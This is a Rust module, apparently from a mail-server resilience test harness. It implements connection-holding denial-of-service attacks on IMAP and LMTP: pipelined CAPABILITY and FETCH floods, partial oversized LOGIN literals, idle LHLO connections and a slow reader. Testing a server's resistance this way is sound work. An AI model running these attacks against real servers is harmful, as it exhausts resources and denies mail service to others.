//! Attacks by connections that hold on to things.

use std::io;
use std::time::{Duration, Instant};

use super::{Prepared, Stage, done, why};
use crate::wire::{From, Wire};

/// Commands in one write.
const BLOCK: usize = 500;
/// Bytes of literals that are announced, and of what is sent of them.
const LITERALS: [[usize; 2]; 2] = [[65_000, 60_000], [8_000, 7_900]];
/// How fast the slow reader reads.
const READ_BYTES: usize = 8192;
const READ_EVERY: Duration = Duration::from_secs(1);

/// Holds connections until the attack's time is over, sending what is still taken of each one's
/// rest again and again.
fn press(stage: &Stage<'_>, held: &mut Prepared<'_>, block: &[u8]) -> [usize; 2] {
    let (mut sent, mut cut) = (0, vec![false; held.len()]);
    let mut offsets = vec![0; held.len()];
    while !stage.stopped() {
        let before = sent;
        for ((wire, cut), offset) in held.iter_mut().zip(&mut cut).zip(&mut offsets) {
            if *cut {
                continue;
            }
            match wire.send_some(&block[*offset..]) {
                Ok(count) => {
                    sent += count;
                    *offset = (*offset + count) % block.len();
                }
                Err(_) => *cut = true,
            }
        }
        if sent == before {
            std::thread::sleep(Duration::from_millis(100));
        }
    }
    [sent, cut.iter().filter(|cut| **cut).count()]
}

/// Pipelined commands before login whose answers nobody reads.
pub fn capability<'a>(stage: &Stage<'a>, held: &mut Prepared<'a>) -> io::Result<String> {
    let refused = open(stage, held, Stage::connect);
    let block = "a CAPABILITY\r\n".repeat(BLOCK);
    let [sent, cut] = press(stage, held, block.as_bytes());
    let count = held.len();
    let kilobytes = sent / 1000;
    let text =
        format!("{count} connections{refused}, {cut} cut; {kilobytes} KB of commands were taken");
    done(count, text)
}

/// FETCH of a whole large message, pipelined by sessions that never read.
pub fn unread<'a>(stage: &Stage<'a>, held: &mut Prepared<'a>) -> io::Result<String> {
    let refused = open(stage, held, |stage| {
        let mut wire = stage.log_in(0)?;
        wire.must("SELECT INBOX")?;
        Ok(wire)
    });
    let block = "a FETCH * (BODY.PEEK[])\r\n".repeat(BLOCK);
    let [sent, cut] = press(stage, held, block.as_bytes());
    let count = held.len();
    let kilobytes = sent / 1000;
    done(
        count,
        format!("{count} sessions{refused}, {cut} cut; {kilobytes} KB of commands were taken"),
    )
}

/// Most of a literal before login, of which the server keeps what it wants: in turn one that is
/// longer than a login needs, and one that may be as long.
pub fn literal<'a>(stage: &Stage<'a>, held: &mut Prepared<'a>) -> io::Result<String> {
    let (mut cut, mut first) = (0, None);
    for number in 0..stage.plan.sizes.requests {
        if stage.stopped() {
            break;
        }
        let [announced, sent] = LITERALS[number % LITERALS.len()];
        let begun = stage.connect().and_then(|mut wire| {
            wire.line()?;
            wire.send(format!("a LOGIN {{{announced}+}}\r\n").as_bytes())?;
            wire.send(&vec![b'x'; sent])?;
            Ok(wire)
        });
        match begun {
            Ok(wire) => held.push(wire),
            Err(error) => {
                cut += 1;
                first = first.or(Some(error));
            }
        }
    }
    hold(stage);
    let count = held.len();
    done(
        count,
        format!("{count} literals begun, {cut} cut{}", why(first)),
    )
}

/// LMTP connections that say LHLO and nothing more.
pub fn lmtp<'a>(stage: &Stage<'a>, held: &mut Prepared<'a>) -> io::Result<String> {
    let refused = open(stage, held, |stage| {
        let mut wire = Wire::connect(stage.plan.lmtp, From::Attacker, stage.until())?;
        let greeting = wire.line()?;
        if !greeting.starts_with(b"220") {
            let text = String::from_utf8_lossy(&greeting).into_owned();
            return Err(io::Error::other(text));
        }
        wire.send(b"LHLO attacker\r\n")?;
        Ok(wire)
    });
    hold(stage);
    done(
        held.len(),
        format!("{} idle connections{refused}", held.len()),
    )
}

fn hold(stage: &Stage<'_>) {
    while !stage.stopped() {
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Makes as many connections as the attack has; tells of those that were refused.
fn open<'a>(
    stage: &Stage<'a>,
    held: &mut Prepared<'a>,
    connect: impl Fn(&Stage<'a>) -> io::Result<Wire<'a>>,
) -> String {
    let (mut refused, mut first) = (0, None);
    for _ in 0..stage.plan.sizes.connections {
        if stage.stopped() {
            break;
        }
        match connect(stage) {
            Ok(wire) => held.push(wire),
            Err(error) => {
                refused += 1;
                first = first.or(Some(error));
            }
        }
    }
    match refused {
        0 => String::new(),
        _ => format!(", {refused} refused{}", why(first)),
    }
}

/// Reads a large message at a steady small rate.
pub fn slow_reader(stage: &Stage<'_>) -> io::Result<String> {
    let mut wire = stage.log_in(0)?;
    wire.must("SELECT INBOX")?;
    wire.begin("FETCH * (BODY.PEEK[])")?;
    let (begun, mut read) = (Instant::now(), 0);
    let mut buffer = [0; READ_BYTES];
    let until = stage.plan.attack.saturating_sub(READ_EVERY);
    while begun.elapsed() < until {
        match wire.receive(&mut buffer) {
            Ok(count) => read += count,
            Err(error) => {
                let after = begun.elapsed().as_secs();
                return Ok(format!("cut after {after} s and {read} bytes: {error}"));
            }
        }
        std::thread::sleep(READ_EVERY);
    }
    Ok(format!(
        "still served after {} s and {read} bytes",
        begun.elapsed().as_secs()
    ))
}
